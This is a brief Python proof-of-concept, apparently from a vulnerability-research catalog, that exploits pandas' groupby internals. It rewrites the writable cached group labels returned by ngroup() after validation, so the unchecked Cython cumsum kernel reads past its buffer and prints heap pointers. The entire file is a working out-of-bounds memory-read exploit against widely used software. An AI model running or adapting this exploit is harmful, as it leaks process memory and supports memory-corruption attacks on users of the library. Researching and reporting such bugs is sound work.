# source: pandas/core/groupby/groupby.py GroupBy.ngroup (Series built on grouper.group_info[0] without a copy) + pandas/_libs/groupby.pyx group_cumsum (@boundscheck(False))
# family: writable internal index arrays of pandas objects (the groupby's cached labels, reached through ngroup()) used unchecked by Cython kernels
# goal: out-of-bounds heap read: labels rewritten after pandas checked them make cumsum read words past its 4-group accumulator (heap pointers shown)
import numpy as np
import pandas as pd

df = pd.DataFrame({"k": [0, 0, 1, 1, 2, 2, 3, 3], "v": np.zeros(8, dtype=np.int64)})
gb = df.groupby("k")
ids = gb.ngroup()
print("ngroup:", ids.tolist(), "writable:", ids.values.flags.writeable)
lab = ids.values
for i in range(8):
    lab[i] = 4 + 2 * i
print("labels the kernel now uses:", gb.ngroup().tolist(), "(only 4 groups exist)")
print("cumsum of zeros:", [hex(int(t)) for t in gb.v.cumsum()])
